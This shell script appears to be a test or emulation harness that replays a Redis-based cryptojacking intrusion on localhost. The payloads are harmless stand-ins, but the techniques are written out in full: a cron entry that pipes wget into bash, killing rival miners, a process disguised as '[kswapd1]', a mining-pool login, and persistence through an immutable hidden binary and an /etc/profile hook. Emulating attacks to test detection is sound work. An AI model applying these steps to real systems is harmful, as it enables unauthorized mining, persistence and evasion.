# A program called redis-server writes a job; what the job would do is then done.
prepare() {
    put /usr/bin/perl /usr/local/bin/redis-server
    mkdir -p /var/spool/cron /home/far
    printf '#!/bin/bash\nexec -a "[kswapd1]" sleep 2\n' >/home/far/i.sh
    (cd /home/far && exec python3 -m http.server 8098 --bind 127.0.0.1) >/dev/null 2>&1 9>&- &
    resolver
    listener 3333
    sleep 1
}
cache_writes_job() { redis-server -e 'open my $f, ">", "/var/spool/cron/root" or die; print $f "REDIS0009\n\n*/2 * * * * wget -q -O- http://127.0.0.1:8098/i.sh | bash\n\n"; close $f'; }
job_runs() { /bin/sh -c 'wget -q -O- http://127.0.0.1:8098/i.sh | bash'; }
end_rivals() { for name in xmr kinsing kdevtmpfsi; do pgrep -f "$name-none" | xargs -r kill -9; done; crontab -l 2>/dev/null | grep -v xmr; ps aux --sort=-%cpu | head -3; }
ask_pool() { ask gulf.moneroocean.stream; }
mine() { cp /usr/bin/sleep /var/tmp/kswapd1; (exec -a '[kswapd1]' /var/tmp/kswapd1 2) & python3 -c 'import socket,json
s = socket.create_connection(("127.0.0.1", 3333)); s.send(json.dumps({"id": 1, "method": "login", "params": {"login": "w", "pass": "x"}}).encode() + b"\n")'; wait; }
second_copy() { cp /var/tmp/kswapd1 /usr/lib/.k; chattr +i /usr/lib/.k; echo '[ -x /usr/lib/.k ] && /usr/lib/.k 1 &' >>/etc/profile; }
